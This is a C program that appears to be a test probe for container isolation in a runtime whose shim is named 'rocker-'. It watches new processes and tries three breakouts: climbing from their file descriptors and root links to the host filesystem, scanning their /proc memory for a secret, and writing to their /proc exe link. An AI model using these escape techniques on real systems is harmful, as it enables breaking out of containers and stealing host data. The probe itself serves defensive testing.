/*
 * Looks at every process that comes into its pid namespace, as a process with
 * CAP_SYS_PTRACE may, for as long as that has not executed its program: is there
 * anything of the host's to be had?
 *
 *   onlooker MARK SECRET     MARK is a file of the host, from its root
 *
 *   root: /proc/12/root      a way to MARK
 *   memory: /proc/12/mem     SECRET was found
 *   exe: /proc/12/exe        could be changed
 *   looked at 40             at SIGTERM: how many it has seen in time
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { most_steps_up = 30, most_bytes = 8 << 20 };

static const char *mark, *secret;
static int looked_at;
static volatile sig_atomic_t told_to_end;

static void end(int number)
{
    (void)number;
    told_to_end = 1;
}

/* From a folder of the host one can climb to its root, and down again. */
static void climb(const char *path)
{
    int folder = open(path, O_PATH | O_DIRECTORY);
    for (int i = 0; folder >= 0 && i < most_steps_up; i++) {
        if (faccessat(folder, mark, F_OK, 0) == 0) {
            printf("root: %s\n", path);
            break;
        }
        int above = openat(folder, "..", O_PATH | O_DIRECTORY);
        close(folder);
        folder = above;
    }
    if (folder >= 0)
        close(folder);
}

static void search_memory(const char *process)
{
    static char bytes[most_bytes];
    char path[700], line[700];
    snprintf(path, sizeof path, "%s/maps", process);
    FILE *maps = fopen(path, "re");
    snprintf(path, sizeof path, "%s/mem", process);
    int memory = open(path, O_RDONLY);
    unsigned long from, to;
    while (maps && memory >= 0 && fgets(line, sizeof line, maps)) {
        if (sscanf(line, "%lx-%lx", &from, &to) != 2 || to - from > sizeof bytes)
            continue;
        ssize_t got = pread(memory, bytes, to - from, (off_t)from);
        if (got > 0 && memmem(bytes, (size_t)got, secret, strlen(secret)))
            printf("memory: %s\n", path);
    }
    if (maps)
        fclose(maps);
    if (memory >= 0)
        close(memory);
}

static void change_program(const char *process)
{
    char path[700];
    snprintf(path, sizeof path, "%s/exe", process);
    int program = open(path, O_WRONLY);
    if (program < 0)
        return;
    if (pwrite(program, "\x7f", 1, 0) == 1)
        printf("exe: %s\n", path);
    close(program);
}

/* It has not executed its program: it is called what the shim is called. */
static bool is_new(const char *process)
{
    char path[700], name[32] = "";
    snprintf(path, sizeof path, "%s/comm", process);
    int file = open(path, O_RDONLY);
    if (file < 0)
        return false;
    ssize_t got = read(file, name, sizeof name - 1);
    close(file);
    return got > 0 && strncmp(name, "rocker-", 7) == 0;
}

static void look_at(const char *process)
{
    char path[700];
    if (!is_new(process))
        return;
    snprintf(path, sizeof path, "%s/fd", process);
    DIR *descriptors = opendir(path);
    struct dirent *one;
    while (descriptors && (one = readdir(descriptors))) {
        if (one->d_name[0] == '.')
            continue;
        snprintf(path, sizeof path, "%s/fd/%s", process, one->d_name);
        climb(path);
    }
    if (descriptors)
        closedir(descriptors);
    snprintf(path, sizeof path, "%s/root", process);
    climb(path);
    snprintf(path, sizeof path, "%s/cwd", process);
    climb(path);
    search_memory(process);
    change_program(process);
    if (is_new(process)) /* all the time */
        looked_at++;
}

int main(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    mark = argv[1];
    secret = argv[2];
    signal(SIGTERM, end);
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("looks");
    while (!told_to_end) {
        DIR *processes = opendir("/proc");
        struct dirent *one;
        while (processes && (one = readdir(processes))) {
            char path[300];
            int pid = atoi(one->d_name);
            if (pid <= 1 || pid == getpid())
                continue;
            snprintf(path, sizeof path, "/proc/%s", one->d_name);
            look_at(path);
        }
        if (processes)
            closedir(processes);
    }
    printf("looked at %d\n", looked_at);
    return 0;
}
